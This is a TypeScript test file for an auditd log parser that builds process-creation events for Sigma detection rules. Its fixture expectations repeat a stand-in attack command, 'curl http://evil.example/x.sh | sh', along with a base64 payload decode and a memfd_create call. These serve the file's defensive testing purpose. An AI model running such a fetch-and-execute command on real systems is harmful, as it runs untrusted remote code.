import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AuditAssembler } from '../../src/sources/auditd.js';
import { parseAuditLine } from '../../src/sources/auditd-parse.js';
import type { LogEvent } from '../../src/sources/event.js';
import { makeSink } from '../../src/sources/sink.js';
import { collect, fixture } from './collect.js';

describe('auditd log (auditd.log)', async () => {
  const file = fixture('auditd.log');
  const { events, skips } = await collect(file);
  const execs = events.filter((e) => e.logsource.category === 'process_creation');
  const raw = events.filter((e) => e.logsource.service === 'auditd');

  it('skips the garbage line with its number and reads the rest', () => {
    expect(skips).toEqual([
      { file, line: 13, offset: expect.any(Number), reason: expect.stringMatching(/^not an auditd record/) },
    ]);
    expect(execs).toHaveLength(3);
    expect(raw.map((e) => e.fields.type)).not.toContain('EOE');
    expect(raw).toHaveLength(14);
  });

  it('builds process_creation from interleaved SYSCALL/EXECVE/CWD records, parent from the parent exec', () => {
    const pip = execs.find((e) => e.fields.ProcessId === 100)!;
    const sh = execs.find((e) => e.fields.ProcessId === 200)!;
    expect(pip.logsource).toEqual({ product: 'linux', category: 'process_creation' });
    expect(pip).toMatchObject({ host: 'lin01', timestamp: 1709300000100, origin: { file, line: 1, offset: 0 } });
    expect(pip.fields).toMatchObject({
      Image: '/usr/bin/python3.11',
      CommandLine: 'python3 -m pip install',
      CurrentDirectory: '/home/alice/project',
      ParentProcessId: 50,
      User: 'alice',
      uid: '1000',
      auid: '1000',
      key: 'exec',
    });
    expect(pip.fields).not.toHaveProperty('ParentImage');
    expect(sh.fields).toMatchObject({
      Image: '/usr/bin/dash',
      CommandLine: 'sh -c curl http://evil.example/x.sh | sh',
      CurrentDirectory: '/home/alice/my project',
      ParentProcessId: 100,
      ParentImage: '/usr/bin/python3.11',
      ParentCommandLine: 'python3 -m pip install',
      User: '1000',
      euid: '0',
    });
  });

  it('joins split arguments and decodes hex', () => {
    const b64 = execs.find((e) => e.fields.ProcessId === 300)!;
    expect(b64.fields).toMatchObject({
      CommandLine: 'base64 -d /tmp/payload€.b64 --wrap=0',
      ParentImage: '/usr/bin/dash',
      ParentCommandLine: 'sh -c curl http://evil.example/x.sh | sh',
    });
    expect(b64.host).toBeUndefined();
  });

  it('keeps the raw records Sigma auditd rules match', () => {
    const execve = raw.find((e) => e.fields.type === 'EXECVE' && e.fields.a0 === 'sh')!;
    expect(execve.fields).toMatchObject({
      argc: '3',
      a1: '-c',
      a2: 'curl http://evil.example/x.sh | sh',
      node: 'lin01',
    });
    const syscall = raw.find((e) => e.fields.type === 'SYSCALL' && e.fields.comm === 'ecasound')!;
    expect(syscall.fields).toMatchObject({
      syscall: '319',
      SYSCALL: 'memfd_create',
      exe: '/usr/bin/ecasound',
      key: '(null)',
    });
    const enriched = raw.find((e) => e.fields.comm === 'python3')!;
    expect(enriched.fields).toMatchObject({ SYSCALL: 'execve', AUID: 'alice', ARCH: 'x86_64', a0: '55d1' });
    const title = raw.find((e) => e.fields.type === 'PROCTITLE' && e.timestamp === 1709300000200)!;
    expect(title.fields.proctitle).toBe('sh -c curl http://evil.example/x.sh | sh');
    const path = raw.find((e) => e.fields.type === 'PATH' && e.fields.name === '/usr/bin/python3')!;
    expect(path.logsource).toEqual({ product: 'linux', service: 'auditd' });
    const cmd = raw.find((e) => e.fields.type === 'USER_CMD')!;
    expect(cmd.fields).toMatchObject({ cmd: 'ls -la', exe: '/usr/bin/sudo', res: 'success', pid: '500' });
  });
});

describe('auditd parser and assembler', () => {
  it('parses header parts', () => {
    expect(parseAuditLine('node=n1 type=CWD msg=audit(1.5:7): cwd="/"')).toEqual({
      node: 'n1',
      type: 'CWD',
      time: 1500,
      serial: 7,
      fields: { cwd: '/' },
    });
    expect(parseAuditLine('Jan 1 host audispd: type=EOE msg=audit(2:3): ')).toMatchObject({ type: 'EOE', serial: 3 });
  });

  it('flushes groups that never get EOE once the window passes, and bounds open groups', () => {
    const asm = new AuditAssembler(makeSink(), { windowMs: 1000, maxOpen: 2 });
    const rec = (line: string) => parseAuditLine(line) as Exclude<ReturnType<typeof parseAuditLine>, { skip: string }>;
    const origin = { file: 'f' };
    expect(asm.push(rec('type=USER_LOGIN msg=audit(10:1): res=success'), origin)).toEqual([]);
    const out = asm.push(rec('type=USER_LOGIN msg=audit(12:2): res=failed'), origin);
    expect(out.map((e) => e.fields.res)).toEqual(['success']);
    asm.push(rec('type=A msg=audit(12:3): x=1'), origin);
    const overflow = asm.push(rec('type=A msg=audit(12:4): x=2'), origin);
    expect(overflow.map((e) => e.timestamp)).toEqual([12000]);
    expect(asm.flush()).toHaveLength(2);
  });

  it('never throws on arbitrary lines', () => {
    const piece = fc.constantFrom(
      'type=',
      'EXECVE',
      'SYSCALL',
      ' msg=audit(',
      '1.2',
      ':3',
      '):',
      ' a0=',
      'a1[0]=',
      'a1_len=',
      '"',
      "'",
      '41',
      'ZZ',
      '\x1d',
      ' ',
      '=',
      'node=',
    );
    const line = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.array(piece, { maxLength: 30 }).map((p) => p.join('')),
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 20 }), (lines) => {
        const asm = new AuditAssembler(makeSink(), { maxOpen: 3 });
        const out: LogEvent[] = [];
        for (const l of lines) {
          const r = parseAuditLine(l);
          if (!('skip' in r)) out.push(...asm.push(r, { file: 'f' }));
        }
        out.push(...asm.flush());
        for (const e of out) expect(typeof e.fields).toBe('object');
      }),
      { numRuns: 300 },
    );
  });
});
